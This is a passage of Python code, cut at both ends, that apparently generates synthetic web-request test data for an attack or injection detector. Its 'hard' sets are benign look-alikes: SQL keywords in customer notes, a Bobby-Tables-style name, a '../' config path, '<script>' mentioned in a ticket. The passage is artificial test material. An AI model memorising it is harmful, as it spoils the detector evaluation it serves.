    "q[name_cont]",
    "q[s]",
    "expand[]",
    "ids[]",
    "tags[]",
    "where[status]",
    "options[limit]",
    "search[value]",
    "columns[0][data]",
    "order[0][dir]",
    "utm_source",
    "utm_campaign",
    "gclid",
    "fbclid",
    "_",
    "cb",
    "locale",
    "currency",
    "per_page",
    "since_id",
    "updated_at_min",
    "$top",
    "$skip",
    "$filter",
    "$select",
    "$orderby",
]
QVALS = {
    "$filter": "Price lt 20 and Category eq 'Kitchen'",
    "$select": "Id,Name,Price",
    "$orderby": "Name desc",
    "$top": "25",
    "$skip": "50",
    "filters[price][$lte]": "50",
    "filters[category][slug][$eq]": "kitchen",
    "q[s]": "created_at desc",
    "order[0][dir]": "asc",
    "filter[status]": "paid",
    "filter[created_at][gte]": "2026-11-01",
    "page[size]": "25",
    "page[number]": "2",
    "fields[orders]": "number,total,status",
    "fields[customers]": "name,email",
    "include": "author,comments",
    "sort": "-created_at",
    "populate[author][fields][0]": "name",
    "q[name_cont]": "mug",
    "expand[]": "customer",
    "ids[]": "12",
    "tags[]": "sale",
    "where[status]": "active",
    "options[limit]": "20",
    "search[value]": "desk lamp",
    "columns[0][data]": "name",
    "utm_source": "newsletter",
    "utm_campaign": "winter_sale",
    "locale": "de-DE",
    "currency": "EUR",
    "per_page": "50",
    "since_id": "123456",
    "updated_at_min": "2026-12-01T00:00:00Z",
}


def qval(k):
    if k in QVALS:
        return QVALS[k]
    if k in ("gclid", "fbclid"):
        return rs(40, string.ascii_letters + string.digits + "_-")
    return str(1733500000000 + R.randrange(10**7))


def api_normal():
    host = pick(HOSTS["shop"] + HOSTS["saas"] + HOSTS["bank"] + HOSTS["travel"])
    if R.random() < 0.16:
        key = pick(QKEYS)
        others = [(k2, qval(k2)) for k2 in R.sample([q for q in QKEYS if q != key], R.randrange(1, 3))]
        return BI(
            key,
            "query_key",
            host=host,
            style=bstyle(0.4),
            path=pick(["/api/v1/orders", "/api/articles", "/odata/Products", "/api/v2/customers", "/products.json"]),
            kval=qval(key),
            extra_q=others,
        )
    k = R.randrange(8)
    if k == 0:
        obj = {
            "order_id": "ord_%s" % rs(14),
            "currency": pick(["EUR", "USD", "GBP", "JPY", "BRL"]),
            "items": [
                {
                    "sku": "SKU-%05d" % R.randrange(99999),
                    "name": pick(PRODUCTS),
                    "qty": R.randrange(1, 4),
                    "unit_price": round(R.uniform(2, 300), 2),
                }
                for _ in range(R.randrange(1, 4))
            ],
            "shipping_address": address(),
            "created_at": ts(),
            "coupon": pick([None, "WELCOME10", "FREESHIP"]),
        }
        return BI(obj, "json", host=host, path="/api/v1/orders")
    if k == 1:
        f, l = person()
        obj = {
            "first_name": f,
            "last_name": l,
            "email": email_of(f, l),
            "locale": pick(["en-US", "de-DE", "fr-FR", "ja-JP", "ar-EG", "he-IL"]),
            "marketing_opt_in": R.random() < 0.4,
            "birthdate": "19%d-%02d-%02d" % (R.randrange(50, 99), R.randrange(1, 13), R.randrange(1, 29)),
        }
        return BI(obj, "json", host=host, method="PATCH", path="/api/v1/users/%d" % R.randrange(1000, 999999))
    if k == 2:
        obj = {
            "amount": {"value": "%d.%02d" % (R.randrange(1, 5000), R.randrange(100)), "currency": "EUR"},
            "creditor": {"name": pick(COMPANIES), "iban": "DE%d" % R.randrange(10**19, 10**20)},
            "remittance": pick(
                ["Invoice %d" % R.randrange(1000, 9999), "Miete Dezember", "Loyer décembre", "Thanks for dinner 🍕"]
            ),
            "execution_date": "2026-12-%02d" % R.randrange(8, 31),
            "idempotency_key": ruuid(),
        }
        return BI(obj, "json", host=pick(HOSTS["bank"]), style=bstyle(0.4), path="/api/v1/payments")
    if k == 3:
        obj = {
            "event": pick(["page_view", "add_to_cart", "checkout_started", "search"]),
            "anonymous_id": ruuid(),
            "properties": {
                "path": "/products/%d" % R.randrange(1, 9999),
                "referrer": pick(["https://www.google.com/", "", "https://t.co/%s" % rs(10)]),
                "viewport": "%dx%d" % (pick([390, 1440, 1920]), pick([844, 900, 1080])),
            },
            "timestamp": ts(),
        }
        return BI(obj, "json", host=host, path="/v1/track")
    if k == 4:
        obj = {
            "flight": "%s%d" % (pick(["LH", "BA", "AF", "NH", "LA"]), R.randrange(100, 9999)),
            "passengers": [
                {"given_name": person()[0], "family_name": person()[1], "type": pick(["ADT", "CHD"])}
                for _ in range(R.randrange(1, 4))
            ],
            "seat_preference": pick(["aisle", "window", None]),
            "meal": pick(["VGML", "KSML", "HNML", None]),
        }
        return BI(obj, "json", host=pick(HOSTS["travel"]), path="/api/v1/bookings")
    if k == 5:
        obj = {
            "project": pick(WORDS),
            "settings": {
                "notifications": {
                    "email": {"digest": pick(["daily", "weekly"]), "mentions": True},
                    "slack": {"channel": "#%s" % pick(WORDS)},
                },
                "theme": pick(["dark", "light", "system"]),
                "timezone": pick(["Europe/Berlin", "America/Chicago", "Asia/Tokyo", "Asia/Jerusalem"]),
            },
        }
        return BI(obj, "json", host=host, method="PUT", path="/api/v1/projects/%d/settings" % R.randrange(1, 999))
    if k == 6:
        d = {"value": pick(["on", "off", 3, 0.75, "auto"])}
        for key in R.sample(DEEP_KEYS, R.randrange(10, 13)):
            d = {key: d}
        obj = {"schema": 3, "workspace": "ws_%s" % rs(8), "config": d}
        return BI(obj, "json", host=host, method="PUT", path="/api/v1/workspaces/config")
    if R.random() < 0.3:
        a = address()
        doc = (
            '<?xml version="1.0" encoding="UTF-8"?>\n<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">\n  <soap:Body>\n    <CreateShipment xmlns="urn:logistics:v2">\n'
            "      <Reference>%s</Reference>\n      <Recipient>%s</Recipient>\n      <Street>%s</Street>\n      <City>%s</City>\n      <Postcode>%s</Postcode>\n      <Country>%s</Country>\n      <WeightKg>%.2f</WeightKg>\n"
            "    </CreateShipment>\n  </soap:Body>\n</soap:Envelope>\n"
        ) % (
            "ORD-%d" % R.randrange(10**5, 10**6),
            a["name"].replace("&", "&amp;").replace("'", "&apos;"),
            a["line1"].replace("'", "&apos;"),
            a["city"],
            a["postal_code"],
            a["country"],
            R.uniform(0.2, 20),
        )
        return BI(
            doc,
            "xml_doc",
            host=host,
            style=bstyle(0.7),
            path="/soap/ShipmentService",
            ctype="text/xml; charset=utf-8",
            extra_headers={"SOAPAction": '"urn:logistics:v2#CreateShipment"'},
        )
    obj = {
        "invoice": {
            "number": "INV-2026-%04d" % R.randrange(10000),
            "lines": [
                {"description": pick(PRODUCTS), "amount": R.randrange(100, 90000) / 100}
                for _ in range(R.randrange(1, 3))
            ],
            "tax_rate": pick([0.19, 0.2, 0.07, 0.0]),
            "due": "2027-01-%02d" % R.randrange(1, 31),
        },
        "customer_id": "cus_%s" % rs(14, string.ascii_letters + string.digits),
    }
    return BI(obj, "json", host=host, style=bstyle(0.5), path="/api/v1/invoices")


def api_hard():
    L = [
        {"delivery_notes": "Don't ring -- dog sleeps; leave at door #3 (side entrance)", "order_id": "ord_%s" % rs(12)},
        {"filter": {"where": {"status": "paid"}, "select": ["id", "total"], "order": "created_at desc"}, "limit": 50},
        {
            "$schema": "https://json-schema.org/draft/2020-12/schema",
            "$id": "https://api.ledgerloop.io/schemas/invoice.json",
            "type": "object",
            "properties": {"total": {"$ref": "#/$defs/money"}},
        },
        {
            "filters": {"price": {"$lt": 50}, "brand": {"$eq": "Acme"}},
            "sort": ["price:asc"],
            "pagination": {"page": 1, "pageSize": 25},
        },
        {
            "query": {
                "bool": {"must": [{"match": {"title": "winter boots"}}], "filter": [{"range": {"price": {"lte": 120}}}]}
            },
            "size": 20,
        },
        {"company": "Smith & Sons; Ltd.", "contact": "Mary-Kate O'Neil-Smith", "vat_id": "IE6388047V"},
        {"size_note": "fits < 10cm drawers; > 2kg items ship separately", "sku": "BOX-%d" % R.randrange(100, 999)},
        {"address": {"line1": "1/2 Baker St.", "line2": 'Flat "B"', "city": "London", "postcode": "NW1 6XE"}},
        {"password": "x7#Kq!9$vL&2^m'", "password_confirmation": "x7#Kq!9$vL&2^m'", "token": rs(32)},
        {
            "rule": {
                "if": {"and": [{"==": [{"var": "country"}, "DE"]}, {">": [{"var": "total"}, 100]}]},
                "then": "free_shipping",
            }
        },
        (
            '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n<plist version="1.0">\n<dict>\n  <key>PayloadDisplayName</key>\n  <string>Acme Wi-Fi</string>\n  <key>PayloadIdentifier</key>\n  <string>com.acme-corp.wifi.%s</string>\n  <key>PayloadVersion</key>\n  <integer>1</integer>\n</dict>\n</plist>\n'
            % rhex(8),
            "/api/v1/mdm/profiles",
            "application/xml",
        ),
        {"sql": "SELECT id, name FROM products WHERE price < 20", "datasource": "warehouse", "name": "Cheap products"},
        {"template": "Hi {{first_name}}, your order {{order.number}} shipped!", "channel": "sms"},
        {"path": "../shared/config.json", "mode": "read", "workspace": "design-system"},
        {"note": "Customer says the app shows <script> text in the bio field after the update", "ticket": 8812},
        {
            "user_agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
            "ip": "10.0.12.7",
            "forwarded_for": "203.0.113.9, 10.0.0.2",
        },
        (
            '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" version="1.1" width="64" height="64" viewBox="0 0 64 64">\n  <title>logo</title>\n  <circle cx="32" cy="32" r="30" fill="#2a9d8f"/>\n  <a xlink:href="https://www.larkspur-goods.com/"><text x="12" y="38">L&amp;G</text></a>\n</svg>\n',
            "/api/v1/brand/logo",
            "image/svg+xml",
        ),
        {"expression": "price * qty * (1 - discount)", "variables": {"price": 9.99, "qty": 3, "discount": 0.1}},
        {"tags": ["union", "select", "drop", "insert", "script", "alert"], "name": "Keyword playlist"},
        {
            "callback_url": "https://hooks.partner-logistics.com/v2/notify?shop=larkspur&event=shipment",
            "secret": rs(24),
        },
        {"regex": "^(?:[a-z0-9!#$%&'*+/=?^_`{|}~-]+)@example\\.com$", "field": "email"},
        {
            "name": "李小龙",
            "nickname": "ブルース",
            "city": "香港",
            "bio": "🥋 martial artist; loves 'kung fu' & philosophy",
        },
        {"command": "deploy", "args": ["--env", "staging", "--tag", "v2.8.1"], "requested_by": "kim@orbitally.app"},
        {
            "lookup": {"from": "inventory", "localField": "sku", "foreignField": "sku", "as": "stock"},
            "note": "analytics pipeline stage (admin UI)",
        },
        {"ldap_group": "CN=Finance,OU=Groups,DC=corp,DC=example,DC=com", "role": "viewer"},
        {
            "comment": "Name on card: D'Arcy; billing addr: 12 O'Connell St., Apt #4 -- thanks!",
            "order": "A-%d" % R.randrange(10000, 99999),
        },
    ]
    out = []
    for i, obj in enumerate(L):
        host = pick(HOSTS["shop"] + HOSTS["saas"] + HOSTS["dev"])
        if isinstance(obj, tuple):
            out.append(
                BI(obj[0], "xml_doc", True, host=host, style=bstyle(0.5), method="PUT", path=obj[1], ctype=obj[2])
            )
            continue
        out.append(
            BI(
                obj,
                "json",
                True,
                host=host,
                style=bstyle(0.35),
                method=pick(["POST", "PUT", "PATCH"]),
                path=pick(
                    [
                        "/api/v1/orders/notes",
                        "/api/v1/resources",
                        "/api/v2/records",
                        "/api/v1/admin/config",
                        "/api/v1/items",
                    ]
                ),
            )
        )
    return out


# ---------------------------------------------------------------- forms

MESSAGES = [
    "Hi, I ordered the wrong size. Can I exchange it for a medium?",
    "Is the café open on Sunday mornings?",
    "Bonjour, je n'ai pas reçu mon colis. Merci de vérifier.",
    "Hallo, können Sie mir eine Rechnung mit USt-ID schicken?",
    "Thanks for the quick delivery, everything arrived in perfect condition!",
    "Could you tell me whether the jacket is waterproof or just water-resistant?",
    "お世話になっております。注文番号を確認していただけますか？",
    "Necesito cambiar la dirección de envío de mi pedido.",
    "We'd like a quote for 40 units for our office.",
    "Preciso da segunda via do boleto, por favor.",
    "Please cancel my subscription at the end of this billing period.",
    "The tracking link says 'label created' for a week now.",
]


def form_normal():
    k = R.randrange(5)
    f, l = person()
    host = pick(HOSTS["shop"] + HOSTS["saas"] + HOSTS["bank"])
    if k == 0:
        pw = rs(R.randrange(10, 18), string.ascii_letters + string.digits + "!@#%^*-_")
        return BI(
            pw,
            "form",
            host=host,
            path="/login",
            form=[("email", email_of(f, l)), ("password", P), ("remember_me", "on"), ("csrf_token", rs(32))],
        )
    if k == 1:
        name = "%s %s" % (f, l)
        return BI(
            name,
            "form",
            host=host,
            path="/signup",
            form=[
                ("full_name", P),
                ("email", email_of(f, l)),
                ("password", rs(14, string.ascii_letters + string.digits + "!?")),
                ("country", pick(CITIES)[2]),
                ("terms", "1"),
            ],
        )
    if k == 2:
        a = address()
        return BI(
            a["line1"],
            "form",
            host=pick(HOSTS["shop"]),
            path="/checkout/shipping",
            form=[
                ("name", a["name"]),
                ("address1", P),
                ("address2", a["line2"]),
                ("city", a["city"]),
                ("zip", a["postal_code"]),
                ("country", a["country"]),
                ("shipping_method", pick(["standard", "express"])),
            ],
        )
    if k == 3:
        msg = (
            pick(MESSAGES)
            + " "
            + pick(["", "Order #%d." % R.randrange(10000, 99999), "Thanks, %s" % f, "Best regards, %s %s" % (f, l)])
        )
        return BI(
            msg.strip(),
            "form",
            host=host,
            path="/contact",
            form=[
                ("name", "%s %s" % (f, l)),
                ("email", email_of(f, l)),
                ("topic", pick(["order", "billing", "other"])),
                ("message", P),
            ],
        )
    e = email_of(f, l)
    return BI(
        e,
        "form",
        host=host,
        path="/newsletter",
        form=[("email", P), ("list", pick(["weekly", "deals", "product-updates"])), ("consent", "yes")],
    )


def form_hard():
    L = [
        ("password", "x7#Kq!9$vL&2^m'Z"),
        ("password", "correct horse battery staple"),
        ("password", "P@ss'w0rd\";--ok"),
        ("password", "<Tr0ub4dor&3>"),
        ("message", "I can't log in -- it says 'invalid token' after I reset my password."),
        ("message", "Is 1 OR 2 day shipping available? I need it by Friday & can pay extra."),
        ("message", "Your site shows &lt;br&gt; in my order notes, looks like an encoding bug."),
        ("name", "Mary-Kate O'Neil-Smith"),
        ("name", "Robert'); Tables (Bobby)"),
        ("address1", "12 O'Connell St., Apt #4 (rear)"),
        ("message", "Please select the blue one; drop the red from my order."),
        ("message", "Order <3 !! love the mugs"),
        ("company", 'AT&T / T-Mobile reseller "Best Phones"'),
        ("message", "The path C:\\Program Files\\Acme\\ is missing after install, reinstall didn't help."),
        ("message", "Tried curl https://api.ledgerloop.io/v1/ping and got 401; is my key wrong?"),
        ("message", "My script uses ${HOME}/exports and {{date}} in file names - allowed?"),
        ("message", "Where do I find /etc/app/config.yml on the managed plan?"),
        ("comment", "5 stars; <b>great</b> service & fast delivery :-)"),
        (
            "message",
            "Bonjour, c'est l'anniversaire d'Hélène ; pouvez-vous ajouter « Joyeux anniversaire ! » sur la carte ?",
        ),
        (
            "message",
            'Hi team, re: ticket #4471 -- the export still contains "=HYPERLINK" formulas from our product names.',
        ),
        ("name", "Ünal Yılmaz-Ó Briain"),
        ("message", "I typed my SQL into the notes by mistake: select * from orders; please ignore :)"),
        (
            "message",
            "Sent from my iPhone\n\n> On 6 Dec 2026, at 10:02, Support <help@larkspur-goods.com> wrote:\n> Could you confirm your address?",
        ),
        ("message", "Wrong item: got 'USB-C hub 7-in-1' instead of the 10-in-1 (order #A-88213)."),
    ]
    out = []
    for key, v in L:
        f, l = person()
        host = pick(HOSTS["shop"] + HOSTS["saas"])
        if key == "password":
            out.append(
                BI(
                    v,
                    "form",
                    True,
                    host=host,
                    path=pick(["/login", "/account/password"]),
                    form=[("email", email_of(f, l)), ("password", P), ("csrf_token", rs(32))],
                )
            )
        else:
            fields = [("name", "%s %s" % (f, l)), ("email", email_of(f, l)), ("message", "Hi")]
            fields = [(k2, P if k2 == key else v2) for k2, v2 in fields]
            if key not in ("name", "email", "message"):
                fields.append((key, P))
            out.append(
                BI(v, "form", True, host=host, path=pick(["/contact", "/support/new", "/checkout/notes"]), form=fields)
            )
    return out


# ---------------------------------------------------------------- headers & cookies


def hdr_normal():
    k = R.randrange(12)
    host = pick(ALL_HOSTS)
    path = pick(
        ["/", "/api/v1/me", "/dashboard", "/products/%d" % R.randrange(1, 9999), "/static/js/app.%s.js" % rhex(8)]
    )
    if k == 9:
        v = ",".join(str(R.randrange(100, 99999)) for _ in range(R.randrange(2, 7)))
        return BI(v, "cookie", host=host, path=path, cookie=pick(["recently_viewed", "compare_ids", "wishlist"]))
    if k == 10:
        v = '{"items":%d,"currency":"%s","token":"%s"}' % (R.randrange(0, 9), pick(["EUR", "USD", "GBP"]), rs(16))
        return BI(v, "cookie", host=host, path=path, cookie=pick(["cart_summary", "mini_cart"]))
    if k == 11:
        v = (
            pick(
                [
                    "Europe/Berlin",
                    "America/New_York",
                    "Asia/Tokyo",
                    "Australia/Sydney",
                    "America/Sao_Paulo",
                    "Asia/Kolkata",
                ]
            )
            + "|"
            + pick(["de-DE", "en-US", "ja-JP", "pt-BR", "hi-IN"])
            + "|"
            + rs(6)
        )
        return BI(v, "cookie", host=host, path=path, cookie=pick(["tz_locale", "user_locale"]))
    if k == 0:
        v = (
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.%d.%d Safari/537.36"
            % (R.randrange(118, 132), R.randrange(5000, 6800), R.randrange(10, 200))
        )
        return BI(v, "header", host=host, path=path, hdr="User-Agent")
    if k == 1:
        v = "%s,%s;q=0.9,%s;q=0.8" % (
            pick(["de-DE", "fr-CA", "pt-PT", "ja-JP", "es-MX", "it-IT", "ko-KR"]),
            pick(["de", "fr", "pt", "ja", "es"]),
            pick(["en-US", "en", "en-GB"]),
        )
        return BI(
            v + ";q=0.%d" % R.randrange(1, 7) if R.random() < 0.3 else v,
            "header",
            host=host,
            path=path,
            hdr="Accept-Language",
        )
    if k == 2:
        return BI("00-%s-%s-01" % (rhex(32), rhex(16)), "header", host=host, style="api", path=path, hdr="traceparent")
    if k == 3:
        return BI('W/"%s"' % rhex(R.randrange(16, 40)), "header", host=host, path=path, hdr="If-None-Match")
    if k == 4:
        v = "_ga=GA1.1.%d.%d; _ga_%s=GS1.1.%d.3.1.%d.0.0.0; _gcl_au=1.1.%d.%d" % (
            R.randrange(10**8, 10**10),
            1733000000 + R.randrange(10**6),
            rs(10, string.ascii_uppercase + string.digits),
            1733000000 + R.randrange(10**6),
            1733000000 + R.randrange(10**6),
            R.randrange(10**8, 10**10),
            1733000000 + R.randrange(10**6),
        )
        return BI(v, "header", host=host, path=path, hdr="Cookie")
    if k == 5:
        return BI(
            session_cookie(host) + "; theme=%s" % pick(["dark", "light"]), "header", host=host, path=path, hdr="Cookie"
        )
    if k == 6:
        return BI(
            '"Chromium";v="%d", "Google Chrome";v="%d", "Not?A_Brand";v="%d"'
            % ((lambda v: (v, v, pick([8, 24, 99])))(R.randrange(118, 132))),
            "header",
            host=host,
            path=path,
            hdr="Sec-CH-UA",
        )
    if k == 7:
        v = "%s (%s; %s) %s" % (
            pick(
                [
                    "ShopApp/5.%d.%d" % (R.randrange(30), R.randrange(9)),
                    "BankingApp/24.%d.0" % R.randrange(12),
                    "Quillbase-Desktop/3.%d.%d" % (R.randrange(20), R.randrange(9)),
                ]
            ),
            pick(["iPhone15,2", "Pixel 8", "Macintosh", "Windows NT 10.0"]),
            pick(["iOS 18.1", "Android 14", "macOS 14.6", "Win64"]),
            pick(["CFNetwork/1568.100.1 Darwin/24.0.0", "okhttp/4.12.0", "Electron/32.1.0"]),
        )
        return BI(v, "header", host=host, style="api", path=path, hdr="User-Agent")
    return BI(
        "sentry-trace_id=%s,sentry-environment=production,sentry-release=web%%40%d.%d.%d,sentry-public_key=%s"
        % (rhex(32), R.randrange(1, 9), R.randrange(30), R.randrange(9), rhex(32)),
        "header",
        host=host,
        path=path,
        hdr="baggage",
    )


def hdr_hard():
    optanon = (
        "isGpcEnabled=0&datestamp=Sat+Dec+07+2026+10:12:33+GMT+0100+(Central European Standard Time)&version=202409.1.0&browserGpcFlag=0&isIABGlobal=false&hosts=&consentId=%s&interactionCount=1&landingPath=NotLandingPage&groups=C0001:1,C0002:0,C0003:1,C0004:0&AwaitingReconsent=false"
        % ruuid()
    )
    L = [
        BI(optanon, "cookie", True, cookie="OptanonConsent"),
        BI('{"theme":"dark","sidebar":false,"lang":"de"}', "cookie", True, cookie="ui_prefs"),
        BI("10.0.3.17, 172.16.0.4", "header", True, hdr="X-Forwarded-For"),
        BI(
            'for=192.0.2.60;proto=https;by=203.0.113.43, for="[2001:db8:cafe::17]:4711"',
            "header",
            True,
            hdr="Forwarded",
        ),
        BI(
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "header", True, hdr="User-Agent"
        ),
        BI(
            "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36 [FBAN/EMA;FBLC/en_US;FBAV/442.0.0.11.110;]",
            "header",
            True,
            hdr="User-Agent",
        ),
        BI("*/*", "header", True, hdr="Accept"),
        BI("bytes=0-1023, 4096-8191", "header", True, hdr="Range"),
        BI("return=representation; handling=strict", "header", True, style="api", hdr="Prefer"),
        BI("PATCH", "header", True, style="api", hdr="X-HTTP-Method-Override"),
        BI(
            "https://www.google.com/search?q=select+box+css+%22dropdown%22&oq=select+box&sourceid=chrome&ie=UTF-8",
            "header",
            True,
            hdr="Referer",
        ),
        BI("https://shop.larkspur-goods.com/search?q=O%27Connor+tweed+cap&page=2", "header", True, hdr="Referer"),
        BI('a:2:{s:4:"lang";s:2:"en";s:8:"currency";s:3:"EUR";}', "cookie", True, cookie="legacy_prefs"),
        BI(
            "wp-settings-1=libraryContent%3Dbrowse%26editor%3Dtinymce%26hidetb%3D1; wp-settings-time-1="
            + str(1733500000 + R.randrange(10**5)),
            "header",
            True,
            hdr="Cookie",
        ),
        BI(
            "s:%s.%s" % (rs(32, string.ascii_letters + string.digits + "-_"), b64(rbytes(32), pad=False)),
            "cookie",
            True,
            cookie="connect.sid",
        ),
        BI('j:{"cart":[{"sku":"MUG-01","qty":2}]}', "cookie", True, cookie="cart"),
        BI('"*"', "header", True, style="api", hdr="If-Match"),
        BI("no-cache, no-store, must-revalidate, max-age=0", "header", True, hdr="Cache-Control"),
        BI("ios-app://1234567890/shopapp/products/991?ref=widget", "header", True, hdr="Referer"),
        BI('Basic realm="api", charset="UTF-8"', "header", True, style="api", hdr="X-Upstream-Auth-Challenge"),
        BI("127.0.0.1", "header", True, style="api", hdr="X-Real-IP"),
        BI("lang=en-US; path=/; SameSite=Lax; Secure", "cookie", True, cookie="set_hint"),
        BI(
            "__Host-session=%s; __Secure-csrf=%s" % (rs(43, string.ascii_letters + string.digits + "-_"), rs(22)),
            "header",
            True,
            hdr="Cookie",
        ),
        BI(
            "text/html;q=0.9, application/xhtml+xml;q=0.8, application/xml;q=0.7, */*;q=0.1",
            "header",
            True,
            hdr="Accept",
        ),
    ]
    for b in L:
        b.host = pick(ALL_HOSTS)
        b.spec.setdefault("path", pick(["/", "/account", "/api/v1/me", "/cart"]))
    return L


# ---------------------------------------------------------------- email


def email_normal():
    f, l = person()
    to = email_of(*person())
    k = R.randrange(4)
    host = pick(HOSTS["saas"] + HOSTS["cms"] + HOSTS["hr"])
    body = "%s %s,\n\n%s\n%s\n\n%s\n%s %s" % (
        pick(["Hi", "Hello", "Dear", "Hallo", "Bonjour", "Hola"]),
        person()[0],
        pick(SENT),
        pick(SENT),
        pick(["Best,", "Cheers,", "Viele Grüße,", "Cordialement,", "Saludos,", "Thanks,"]),
        f,
        l,
    )
    if k == 0:
        return BI(
            body,
            "json",
            host=host,
            path="/api/v1/mail/send",
            json={
                "to": [to],
                "cc": [],
                "subject": pick(
                    ["Meeting notes", "Your invoice", "Re: project update", "Fwd: schedule", "Angebot", "Rappel"]
                ),
                "text": P,
                "reply_to": email_of(f, l),
            },
        )
    if k == 1:
        return BI(
            to,
            "json",
            host=host,
            path="/api/v1/invitations",
            json={
                "email": P,
                "role": pick(["viewer", "editor", "admin"]),
                "message": pick(["Welcome aboard!", "", "Join our workspace"]),
            },
        )
    if k == 2:
        return BI(
            body,
            "form",
            host=host,
            path="/messages/compose",
            form=[("to", to), ("subject", pick(WORDS).title()), ("body", P), ("send", "1")],
        )
    html = "<p>%s</p><p>%s</p><p>— %s</p>" % (pick(SENT), pick(SENT), f)
    return BI(
        html,
        "json",
        host=host,
        path="/api/v1/campaigns/%d/content" % R.randrange(1, 900),
        method="PUT",
        json={"html": P, "preheader": pick(SENT)[:60]},
    )


def email_hard():
    L = [
        ("addr", '"Doe, Jane" <jane.doe+invoices@example.co.uk>'),
        ("addr", "o'brien@firm.ie"),
        ("addr", '"john..doe"@example.org'),
        ("addr", "ana.souza+newsletter@uni-heidelberg.de"),
        ("addr", "Zoë Müller <zoe.mueller@web.de>, Kim Park <kim@company.co.jp>"),
        ("addr", "postmaster@[192.0.2.1]"),
        ("addr", "用户@例子.广告"),
        ("addr", "ops-alerts+prod@acme-corp.com; oncall@acme-corp.com"),
        (
            "body",
            "From: billing@larkspur-goods.com\nTo: ana@example.org\nSubject: Invoice 4471\nDate: Fri, 6 Dec 2026 10:02:11 +0100\n\nHi Ana, please find the invoice attached.",
        ),
        (
            "body",
            "---------- Forwarded message ---------\nFrom: Kim Park <kim@company.co.jp>\nDate: Thu, Dec 5, 2026 at 4:11 PM\nSubject: Re: Q4 budget\nTo: <finance@acme-corp.com>\nCc: <cfo@acme-corp.com>\n\nNumbers look good.",
        ),
        ("body", "> On Mon, Jane wrote:\n> > Can we move the call?\n> Sure, 3pm works.\n\nGreat, sending an invite."),
        ("body", "Hi {{first_name}},\n\nYour order {{order_number}} ships today.\n\nUnsubscribe: {{unsubscribe_url}}"),
        ("body", "Please add bcc: archive@acme-corp.com on all client emails from now on (compliance)."),
        (
            "body",
            "--\nAna Souza | Head of Ops\n+49 (30) 1234-567 | ana@acme-corp.com\nAcme Corp GmbH, Hauptstraße 5, 10115 Berlin",
        ),
        ("body", "Subject line test: \"50% off\" vs '50% off' vs 50%-off -- which gets better opens?"),
        (
            "eml",
            'Return-Path: <bounce@mailer.larkspur-goods.com>\r\nReceived: from mx1.example.org (mx1.example.org [192.0.2.25])\r\nFrom: "Larkspur Goods" <news@larkspur-goods.com>\r\nTo: ana@example.org\r\nSubject: =?UTF-8?Q?Winter_sale_=E2=9D=84?=\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=UTF-8\r\n\r\nOur winter sale starts now.\r\n',
        ),
        (
            "eml",
            "From: Kim <kim@company.co.jp>\r\nTo: team@company.co.jp\r\nBcc: kim.archive@company.co.jp\r\nSubject: Offsite agenda\r\nDate: Wed, 4 Dec 2026 09:00:00 +0900\r\n\r\nAgenda attached.\r\n",
        ),
        (
            "body",
            "Bonjour Hélène,\n\nVoici le récapitulatif : « livraison le 12/12 » ; merci d'avance !\n\nCordialement,\nJean-Luc",
        ),
        ("body", "مرحباً أحمد،\nتم شحن طلبك رقم 4471 اليوم.\nمع التحية"),
        ("body", "שלום דנה,\nההזמנה שלך נשלחה.\nתודה!"),
        ("subject", "Re: Re: Fwd: [EXTERNAL] Invoice #4471 (urgent!!) — please review"),
        ("subject", "Your code: 482913 <do not share>"),
        ("addr", "no-reply@notifications.quillbase.io"),
        (
            "body",
            "To: all-staff\nRe: server maintenance\n\nThe mail server (smtp.acme-corp.com:587) will be down 02:00-03:00 UTC. RCPT errors during that window are expected.",
        ),
    ]
    out = []
    for kind, v in L:
        host = pick(HOSTS["saas"] + HOSTS["hr"])
        if kind == "addr":
            out.append(
                BI(
                    v,
                    "json",
                    True,
                    host=host,
                    path=pick(["/api/v1/contacts", "/api/v1/mail/send"]),
                    json={"to": P, "subject": "Hello", "text": "Hi!"},
                )
            )
        elif kind == "eml":
            out.append(
                BI(
                    v,
                    "mp_file",
                    True,
                    host=host,
                    path="/api/v1/tickets/import-email",
                    mp={
                        "fields": [("queue", "support")],
                        "file": ("email", "message-%d.eml" % R.randrange(1000, 9999), "message/rfc822", ""),
                    },
                )
            )
        elif kind == "subject":
            out.append(
                BI(
                    v,
                    "form",
                    True,
                    host=host,
                    path="/messages/compose",
                    form=[("to", email_of(*person())), ("subject", P), ("body", "See below.")],
                )
            )
        else:
            out.append(
                BI(
                    v,
                    "json",
                    True,
                    host=host,
                    path=pick(["/api/v1/support/tickets", "/api/v1/mail/drafts"]),
                    json={"subject": pick(["Question", "Fwd", "Notes"]), "body": P},
                )
            )
    return out


# ---------------------------------------------------------------- ldap-like

DN_OUS = ["Sales", "Engineering", "Finance", "HR", "Support", "Marketing", "Legal"]


def ldap_normal():
    f, l = person()
    k = R.randrange(6)
    if k == 5:
        k = 4
    host = pick(HOSTS["hr"])
    if k == 0:
        t = pick([f[: R.randrange(2, max(3, len(f)))] + "*", "*" + l[-3:], f + " " + l[:1] + "*", l])
        return BI(
            t,
            "query",
            host=host,
            path="/directory/search",
            param=pick(["q", "name", "cn"]),
            extra_q=[("attrs", "cn,mail,title")],
        )
    if k == 1:
        ou = pick(DN_OUS)
        dn = "CN=%s %s,OU=%s,OU=Staff,DC=corp,DC=example,DC=com" % (f, l.replace(",", "\\,"), ou)
        return BI(
            dn,
            "json",
            host=host,
            path="/api/v1/directory/entries/resolve",
            json={"dn": P, "attributes": ["mail", "manager", "memberOf"]},
        )
    if k == 2:
        g = "%s %s (%s)" % (
            pick(DN_OUS),
            pick(["& Ops", "Leads", "Team", "- Contractors", "Admins"]),
